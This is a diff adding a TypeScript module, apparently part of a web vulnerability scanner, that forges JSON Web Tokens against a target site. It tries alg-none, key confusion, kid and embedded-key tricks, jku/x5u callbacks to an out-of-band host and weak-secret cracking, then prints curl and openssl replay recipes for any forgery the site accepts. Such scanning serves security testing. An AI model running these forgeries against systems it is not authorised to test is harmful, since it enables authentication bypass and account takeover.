@@ -1,0 +1,210 @@
+/** Sends forged tokens where good ones are told from others. One way that works is enough: what is behind it is open then. */
+import type { JsonWebKey } from 'node:crypto'
+import { signingKeys } from '../../../../knowledge/secrets/signing-keys.ts'
+import { isUnsigned, weakKeyOf } from '../../../../page/jwt.ts'
+import { textOf } from '../../../../page/text.ts'
+import type { CollectContext } from '../../../module.ts'
+import type { CrawlFacts } from '../../crawl/facts.ts'
+import { curlOf } from '../../insertion-points/replay.ts'
+import { ask, goThrough, Left } from '../asking.ts'
+import type { ApiFacts, Forgery, SeenToken, TokenHit } from '../facts.ts'
+import { jsonOf } from '../leaves.ts'
+import { type Target, withoutQuery } from '../operations.ts'
+import {
+  addressed,
+  alteredSignatures,
+  badClaims,
+  confused,
+  embedded,
+  type Forged,
+  type Forger,
+  forgerByHead,
+  forgerBySecret,
+  makeKey,
+  namedKeys,
+  type OwnKey,
+  unsigned,
+} from './forge.ts'
+import { personalClaims } from './personal.ts'
+import { type Place, placesFor } from './places.ts'
+import { type CarriedToken, type GivenTokens, ownTokens } from './sources.ts'
+
+/** Milliseconds that a server has to fetch a key. */
+const PATIENCE = 3_000
+
+interface Tried {
+  readonly ctx: CollectContext
+  readonly carried: CarriedToken
+  readonly place: Place
+  readonly secret: string | null
+  readonly keys: readonly JsonWebKey[]
+  readonly key: OwnKey
+  readonly found: (hit: TokenHit) => void
+}
+
+export const askTokens = async (
+  ctx: CollectContext,
+  crawl: CrawlFacts,
+  targets: readonly Target[],
+  given: GivenTokens,
+  until: number,
+): Promise<ApiFacts['tokens']> => {
+  const base = crawl.urls[0]?.url ?? `https://${ctx.target.host}/`
+  const own = await ownTokens(ctx, base)
+  const texts = new Set(own.map(({ token }) => token.text))
+  const carried = [...own, ...given.all().filter(({ token }) => !texts.has(token.text))]
+  const first = [ctx.session?.proofAt, crawl.session.canary].flatMap((url) => (url ? [url] : []))
+  const secrets = carried.length === 0 ? [] : signingKeys(ctx.target.host.split(/[.-]/))
+  const seen: SeenToken[] = []
+  const keys = carried.length === 0 ? [] : await publishedKeys(ctx, base)
+  const key = makeKey()
+  const topic = await goThrough<CarriedToken, TokenHit>(ctx, {
+    ...{ name: 'tokens', items: carried, until },
+    work: async (one, found) => {
+      const secret = weakKeyOf(one.token, secrets)
+      const at = seen.push(seenToken(one, secret, withoutQuery(base))) - 1
+      if (secret !== null) found(offline(one, secret, base))
+      if (isUnsigned(one.token)) return
+      const places = await placesFor(ctx, one, targets, [...new Set(first)])
+      if (places.length === 0) throw new Left('for which no address was found that takes it and refuses another')
+      const known = seen[at]
+      if (known) seen[at] = { ...known, placed: true }
+      for (const place of places) await tryAt({ ctx, carried: one, place, secret, keys, key, found })
+    },
+  })
+  return { ...topic, seen, listened: ctx.outOfBand !== undefined }
+}
+
+const tryAt = async (tried: Tried): Promise<void> => {
+  const { ctx, carried, secret, keys, key } = tried
+  const { token } = carried
+  if (Number(token.claims.exp) * 1_000 < ctx.now) await taken(tried, 'expired', [asItIs(carried)])
+  const [head = '', , signature = ''] = token.text.split('.')
+  const altered = await taken(tried, 'signature', alteredSignatures(token))
+  if (altered) return tryClaims(tried, forgerByHead(head, altered.text.endsWith('.') ? '' : signature))
+  const without = await taken(tried, 'none', unsigned(token))
+  await taken(tried, 'confusion', confused(token, keys))
+  await taken(tried, 'key-id', namedKeys(token))
+  await taken(tried, 'embedded-key', [embedded(token, key)])
+  await askForAddress(tried)
+  if (secret !== null) return tryClaims(tried, forgerBySecret(token, secret))
+  if (without) return tryClaims(tried, forgerByHead(without.text.split('.')[0] ?? '', ''))
+}
+
+const asItIs = ({ token }: CarriedToken): Forged => ({
+  ...{ variant: 'its own end, which has passed', text: token.text, recipe: 'FORGED="$TOKEN"' },
+})
+
+/** The first of them that is taken. */
+const taken = async (tried: Tried, kind: Forgery, forged: readonly Forged[]): Promise<Forged | null> => {
+  for (const one of forged) {
+    const seen = await tried.place.takes(one.text)
+    if (seen === null) continue
+    tried.found(hitOf(tried, kind, one, seen.status))
+    return one
+  }
+  return null
+}
+
+/** Both only tell where the same forger's token with good claims is taken. */
+const tryClaims = async (tried: Tried, forge: Forger): Promise<void> => {
+  const { token } = tried.carried
+  const seconds = Math.floor(tried.ctx.now / 1_000)
+  const good = forge({ ...token.claims, exp: Math.max(Number(token.claims.exp) || 0, seconds + 3_600) }, 'good claims')
+  if ((await tried.place.takes(good.text)) === null) return
+  for (const { kind, claims, variant } of badClaims(token, tried.ctx.now)) {
+    if (kind === 'expired' && token.claims.exp === undefined) continue
+    await taken(tried, kind, [forge(claims, variant)])
+  }
+}
+
+const askForAddress = async (tried: Tried): Promise<void> => {
+  const { ctx, carried, place, key } = tried
+  for (const name of ctx.outOfBand ? (['jku', 'x5u'] as const) : []) {
+    const address = ctx.outOfBand?.issue(`JWT ${name}`)
+    if (!address) return
+    const forged = addressed(carried.token, name, `${address.url}keys.json`, key)
+    const seen = await place.answer(forged.text)
+    const [call] = (await ctx.outOfBand?.hits(address.token, PATIENCE)) ?? []
+    if (!call) continue
+    const called = `called by ${call.protocol}: ${call.detail}`
+    const hit = hitOf(tried, 'key-address', forged, seen.status)
+    tried.found({ ...hit, excerpt: `${hit.excerpt}\n${called}`, mark: called })
+    return
+  }
+}
+
+const hitOf = ({ carried, place }: Tried, kind: Forgery, forged: Forged, status: number): TokenHit => {
+  const { own, none, nonsense } = place.baseline
+  const { request } = place
+  const mark = `forged (${forged.variant}): status ${status}`
+  const lines = [
+    `the token itself: status ${own.status}`,
+    `without a token: status ${none.status}`,
+    `nonsense in its place: status ${nonsense.status}`,
+    mark,
+  ]
+  const curl = curlOf(request).replace('curl -isk', `curl -isk ${carried.option}`)
+  return {
+    ...{ kind, variant: forged.variant, where: carried.where, method: request.method ?? 'GET' },
+    ...{ url: withoutQuery(request.url), excerpt: lines.join('\n'), mark },
+    replay: `TOKEN='<a token of yours>'; ${forged.recipe}; ${curl}`,
+  }
+}
+
+/** The secret itself is the proof: it makes the signature. */
+const offline = ({ token, where }: CarriedToken, secret: string, url: string): TokenHit => {
+  const mark = `secret: "${secret}"`
+  const digest = { HS384: 'sha384', HS512: 'sha512' }[token.algorithm.toUpperCase()] ?? 'sha256'
+  const hex = Buffer.from(secret).toString('hex')
+  return {
+    ...{ kind: 'weak-secret', variant: token.algorithm, where, method: 'GET', url: withoutQuery(url) },
+    excerpt: `The signature (${token.algorithm}) of the token in ${where} was made with this.\n${mark}`,
+    mark,
+    replay: `TOKEN='<a token of yours>'; printf %s "\${TOKEN%.*}" | openssl dgst -${digest} -mac HMAC -macopt hexkey:${hex} -binary | basenc --base64url -w0 | tr -d =; echo; echo "\${TOKEN##*.}"`,
+  }
+}
+
+const seenToken = ({ token, where }: CarriedToken, secret: string | null, url: string): SeenToken => {
+  const { exp, iat, nbf } = token.claims
+  const begin = [iat, nbf].find((one) => typeof one === 'number')
+  const lifetime = typeof exp === 'number' && typeof begin === 'number' ? exp - begin : null
+  return {
+    ...{ where, url, algorithm: token.algorithm, lifetime, expires: exp !== undefined },
+    ...{ personal: personalClaims(token.claims), secret, placed: false },
+  }
+}
+
+const KEY_SETS: readonly string[] = [
+  '/.well-known/jwks.json',
+  '/jwks.json',
+  '/.well-known/keys',
+  '/oauth/jwks',
+  '/oauth2/jwks',
+  '/api/.well-known/jwks.json',
+]
+
+/** The public keys that the site itself tells (RFC 7517), at most four. */
+const publishedKeys = async (ctx: CollectContext, base: string): Promise<readonly JsonWebKey[]> => {
+  const told = await jsonAt(ctx, new URL('/.well-known/openid-configuration', base).href)
+  const named = URL.parse(String(memberOf(told, 'jwks_uri') ?? ''), base)
+  const own = named !== null && named.host === new URL(base).host && named.pathname !== '/' ? [named.href] : []
+  for (const address of [...own, ...KEY_SETS.map((path) => new URL(path, base).href)]) {
+    const keys = memberOf(await jsonAt(ctx, address), 'keys')
+    if (Array.isArray(keys) && keys.length > 0)
+      return keys.slice(0, 4).filter((one): one is JsonWebKey => typeof one === 'object' && one !== null)
+  }
+  return []
+}
+
+const jsonAt = async (ctx: CollectContext, url: string): Promise<unknown> => {
+  try {
+    return jsonOf(textOf(await ask(ctx, { url, authenticated: false })))
+  } catch (error) {
+    if (error instanceof Left) return undefined // There are none there.
+    throw error
+  }
+}
+
+const memberOf = (value: unknown, name: string): unknown =>
+  typeof value === 'object' && value !== null ? (value as Readonly<Record<string, unknown>>)[name] : undefined
